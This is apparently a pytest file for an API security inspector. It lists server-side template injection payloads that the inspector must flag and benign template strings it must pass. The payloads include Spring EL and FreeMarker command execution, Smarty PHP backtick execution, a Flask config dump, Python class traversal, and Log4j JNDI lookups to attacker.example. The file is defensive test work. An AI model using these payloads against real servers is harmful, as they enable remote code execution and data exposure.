"""Template injection in the common engines' syntaxes, and template text that is fine."""

from __future__ import annotations

import pytest

from apishield.inspect import Inspector

ATTACKS = [
    pytest.param("{{7*7}}", id="jinja-arithmetic"),
    pytest.param("{{7*'7'}}", id="jinja-string-multiplication"),
    pytest.param("${3*3}", id="el-arithmetic"),
    pytest.param("#{7*7}", id="ruby-thymeleaf-arithmetic"),
    pytest.param("<%= 7 * 7 %>", id="erb-arithmetic"),
    pytest.param("@(1+2)", id="razor-arithmetic"),
    pytest.param("{{''.__class__.__mro__[1].__subclasses__()}}", id="python-mro"),
    pytest.param("{{config.items()}}", id="flask-config"),
    pytest.param("{{self}}", id="probe-self"),
    pytest.param("{{request|attr('application')}}", id="jinja-attr-filter"),
    pytest.param("${T(java.lang.Runtime).getRuntime().exec('id')}", id="spring-el"),
    pytest.param(
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', id="freemarker"
    ),
    pytest.param("{php}echo `id`;{/php}", id="smarty-php"),
    pytest.param("{{'a'.toUpperCase()}}", id="literal-method"),
    pytest.param("${jndi:ldap://attacker.example/a}", id="log4j-lookup"),
    pytest.param("${${lower:j}ndi:ldap://attacker.example/a}", id="log4j-obfuscated"),
    pytest.param("%7B%7B7*7%7D%7D", id="percent-encoded"),
]
BENIGN = [
    pytest.param("Hello {{name}}, your order {{order.id}} shipped!", id="mustache-placeholders"),
    pytest.param("{{ user.first_name | capitalize }}", id="jinja-filter"),
    pytest.param("Dear ${customer_name},", id="el-placeholder"),
    pytest.param("${HOME}/config", id="shell-variable"),
    pytest.param("Total: #{amount} EUR", id="ruby-interpolation"),
    pytest.param("@(Model.Title)", id="razor-model"),
    pytest.param("{% if vip %}Thanks{% endif %}", id="jinja-if"),
    pytest.param("Costs $5 {{ currency }}", id="price"),
]


@pytest.mark.parametrize("value", ATTACKS)
def test_attacks_are_found(inspector: Inspector, value: str) -> None:
    assert "ssti" in [c for c, _ in inspector.score_value(value)]


@pytest.mark.parametrize("value", BENIGN)
def test_near_misses_pass(inspector: Inspector, value: str) -> None:
    assert inspector.score_value(value) == []
